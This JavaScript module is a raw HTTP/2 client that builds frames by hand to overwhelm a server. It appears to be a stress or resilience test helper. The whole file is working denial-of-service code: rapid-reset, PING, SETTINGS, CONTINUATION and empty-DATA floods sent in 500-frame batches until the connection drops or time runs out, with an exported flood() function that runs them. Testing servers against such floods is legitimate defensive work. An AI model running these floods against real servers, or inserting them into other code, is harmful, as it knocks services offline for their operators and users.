/** A client that speaks HTTP/2 frame by frame, does not read, and sends whatever does harm. */

import { once } from 'node:events';
import { connect } from 'node:net';

const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
const TYPES = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, continuation: 9 };
const END_HEADERS = 4;
/** `:method POST`, `:scheme http`, `:path /`, `:authority a`: indexed and literal fields. */
const HEADER_BLOCK = Buffer.from([0x83, 0x86, 0x84, 0x41, 0x01, 0x61]);
const CANCEL = Buffer.from([0, 0, 0, 8]);
const FRAMES_PER_WRITE = 500;

/** Each makes the frames of its `index`th step. */
export const FLOODS = {
  'rapid resets': (index) => {
    const stream = 2 * index + 1;
    const headers = frame('headers', { flags: END_HEADERS, stream, content: HEADER_BLOCK });
    return Buffer.concat([headers, frame('reset', { stream, content: CANCEL })]);
  },
  pings: () => frame('ping', { content: Buffer.alloc(8) }),
  settings: () => frame('settings', { content: Buffer.from([0, 3, 0, 0, 0, 100]) }),
  'CONTINUATION frames': (index) =>
    index === 0
      ? frame('headers', { stream: 1, content: HEADER_BLOCK })
      : frame('continuation', { stream: 1, content: literalFields(index) }),
  'empty DATA frames': (index) =>
    index === 0
      ? frame('headers', { flags: END_HEADERS, stream: 1, content: HEADER_BLOCK })
      : frame('data', { stream: 1 }),
};

/**
 * Floods the server from one connection until it is closed or the time is over. Returns the socket
 * and how many frames it took.
 */
export async function flood(address, makeFrames, durationMs) {
  const [host, port] = address.split(':');
  const socket = connect(Number(port), host).on('error', () => {});
  await once(socket, 'connect');
  socket.pause().write(PREFACE);
  socket.write(frame('settings', {}));
  let index = 0;
  const end = performance.now() + durationMs;
  while (performance.now() < end && !socket.destroyed && socket.writable) {
    const step = Array.from({ length: FRAMES_PER_WRITE }, () => makeFrames(index++));
    if (!socket.write(Buffer.concat(step))) await drainedOrClosed(socket, end);
  }
  return { socket, frames: index };
}

function drainedOrClosed(socket, end) {
  return new Promise((resolve) => {
    const timer = setTimeout(done, Math.max(0, end - performance.now()));
    function done() {
      clearTimeout(timer);
      socket.off('drain', done).off('close', done);
      resolve();
    }
    socket.on('drain', done).on('close', done);
  });
}

function frame(type, { flags = 0, stream = 0, content = Buffer.alloc(0) }) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(content.length, 0, 3);
  head[3] = TYPES[type];
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, content]);
}

/** Header fields that enter no table: a new name and a value, 100 bytes, as often as fits. */
function literalFields(index) {
  const name = Buffer.from(`x-${index % 1_000_000}`.padEnd(20, 'y'));
  const field = Buffer.concat([
    Buffer.from([0, 20]),
    name,
    Buffer.from([100]),
    Buffer.alloc(100, 97),
  ]);
  return Buffer.concat(Array(100).fill(field));
}
